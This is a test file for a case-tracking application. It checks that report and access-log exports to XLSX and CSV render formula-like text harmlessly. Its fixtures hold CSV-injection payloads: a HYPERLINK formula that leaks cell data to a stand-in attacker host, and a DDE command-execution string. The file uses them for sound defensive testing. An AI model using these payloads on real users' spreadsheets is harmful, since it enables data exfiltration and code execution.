"""Every export is spreadsheet-safe: text that a spreadsheet would run stays text.

Found by the outside test (issue 16): the report's summary text ``=HYPERLINK(...)`` became a
live formula in the XLSX and an ``=`` cell in the CSV, a unit name starting with ``=`` did
likewise, and the loggkontroll CSV wrote user names unguarded. The case list's CSV already
neutralised them; every export now goes through the same writer.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from casetrack.domain.roles import Role
from casetrack.exports.spreadsheet import safe_text
from casetrack.extensions import db
from casetrack.models import AccessLogEntry, utcnow
from tests.conftest import csrf_from

FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka här")'
UNIT_NAME = "=1+1 Enhet"
USER_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def world(org, make):
    unit = make.unit(UNIT_NAME, parent=org["dept"], code="EQ")
    quality = make.user([(Role.QUALITY, org["dept"])], email="q@test.example")
    manager = make.user([(Role.MANAGER, unit)], email="m@test.example")
    handler = make.user([(Role.HANDLER, unit)], email="h@test.example", name=USER_NAME)
    case = make.case(
        unit, by=handler, received_on=date(2025, 2, 3), source_code="brukare",
        category_codes=["mat"],
    )  # fmt: skip
    db.session.commit()
    return {"unit": unit, "quality": quality, "manager": manager, "handler": handler, "case": case}


def _save_summary(client, unit_id: int, text: str) -> None:
    page = client.get(f"/rapport/?enhet={unit_id}&ar=2025&tertial=3").text
    response = client.post("/rapport/sammanfattning", data={
        "csrf_token": csrf_from(page), "unit_id": unit_id, "year": 2025, "tertial": 3,
        "row_key": "category:mat", "text": text})  # fmt: skip
    assert response.status_code == 302


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_reports_xlsx_keeps_a_formula_like_summary_and_unit_name_as_text(client, auth, world):
    auth.login("q@test.example")
    _save_summary(client, world["unit"].id, FORMULA)
    response = client.get(f"/rapport/export.xlsx?enhet={world['unit'].id}&ar=2025&tertial=3")
    assert response.status_code == 200
    cells = _xlsx_cells(response.data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    shown = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert FORMULA in shown  # the quality lead's text, exactly as written, as text
    summary = next(cell for cell in cells if cell.value == FORMULA)
    assert summary.data_type == "s" and summary.quotePrefix
    assert any(UNIT_NAME in value for value in shown)
    # The numbers stay numbers.
    row = next(r for r in load_workbook(io.BytesIO(response.data)).active.iter_rows()
               if r[0].value == "Mat och måltider")  # fmt: skip
    assert [c.value for c in row[1:5]] == [1, 0, 0, 1]


def test_the_reports_csv_guards_formula_like_text(client, auth, world):
    auth.login("q@test.example")
    _save_summary(client, world["unit"].id, FORMULA)
    text = client.get(
        f"/rapport/export.csv?enhet={world['unit'].id}&ar=2025&tertial=3"
    ).data.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULA in cells
    assert ["Mat och måltider", "1", "0", "0", "1", "st", "'" + FORMULA] in list(
        csv.reader(io.StringIO(text), delimiter=";")
    )


def test_the_report_command_writes_safe_files(runner, world, tmp_path):
    from casetrack.services import reports as report_service

    report_service.save_summary(world["quality"], world["unit"], 2025, 3, "category:mat", FORMULA)
    db.session.commit()
    target = tmp_path / "rapport.xlsx"
    result = runner.invoke(args=["report", "--unit", "EQ", "--year", "2025",
                                 "--format", "xlsx", "--output", str(target)])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert not [c.coordinate for c in _xlsx_cells(target.read_bytes()) if c.data_type == "f"]
    csv_target = tmp_path / "rapport.csv"
    result = runner.invoke(args=["report", "--unit", "EQ", "--year", "2025",
                                 "--format", "csv", "--output", str(csv_target)])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert ";=" not in csv_target.read_text("utf-8-sig")


def test_the_loggkontroll_csv_guards_user_names(client, auth, world):
    db.session.add(
        AccessLogEntry(
            user_id=world["handler"].id,
            what="case.view",
            case_id=world["case"].id,
            org_unit_id=world["unit"].id,
            occurred_at=utcnow() - timedelta(minutes=5),
            remote_addr="10.0.0.7",
        )
    )
    db.session.commit()
    auth.login("m@test.example")
    token = csrf_from(client.get("/loggkontroll/").text)
    response = client.post("/loggkontroll/export", data={"csrf_token": token})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=";"))
    names = [row[1] for row in rows[1:]]
    assert "'" + USER_NAME in names
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+46", "'+46"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),  # a full-width equals sign, which some spreadsheets accept
        ("Bemötande", "Bemötande"),
        (None, ""),
    ],
)
def test_formula_like_text_is_neutralised(value, expected):
    assert safe_text(value) == expected
